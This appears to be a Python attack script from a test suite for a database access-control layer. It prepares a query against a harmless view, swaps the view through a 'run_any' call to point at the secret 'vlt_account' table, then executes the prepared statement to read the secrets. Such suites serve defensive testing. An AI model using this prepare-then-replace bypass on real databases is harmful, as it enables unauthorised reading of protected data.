"""Prepares a read of a harmless view, and replaces the view."""

from attacks.frames import SYNC, ask, bind, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(b"CREATE VIEW mine AS SELECT name AS secret FROM customer"))
        ask(client, parse(b"SELECT secret FROM mine", b"s"), SYNC)
        ask(
            client,
            query(
                b"SELECT run_any('CREATE OR REPLACE VIEW mine AS SELECT secret FROM vlt_account')"
            ),
        )
        return ask(client, bind(b"s"), execute(), SYNC)
